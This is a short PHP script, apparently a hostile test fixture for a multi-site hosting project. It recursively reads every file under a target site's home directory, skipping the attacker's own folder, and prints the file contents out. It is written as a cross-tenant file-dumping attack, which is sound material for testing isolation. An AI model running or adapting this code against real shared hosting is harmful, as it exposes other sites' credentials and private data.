<?php
/** License: GPL-2.0-or-later */
declare(strict_types=1);

namespace AIPress\Hostile;

/** Its own slot and code that all sites share would only take time. */
function walk(string $folder, int $depth): void {
	foreach ($depth > 8 ? [] : (scandir($folder) ?: []) as $name) {
		$path = "$folder/$name";
		if (in_array($name, ['.', '..', 'wordpress', 'releases', 'console'], true) || $path === target()['attacker']['root']) {
			continue;
		}
		if (is_dir($path) && !is_link($path)) {
			walk($path, $depth + 1);
		} elseif (is_file($path) && is_readable($path)) {
			echo file_get_contents($path, false, null, 0, 1_000_000);
		}
	}
}

walk(target()['home'], 0);
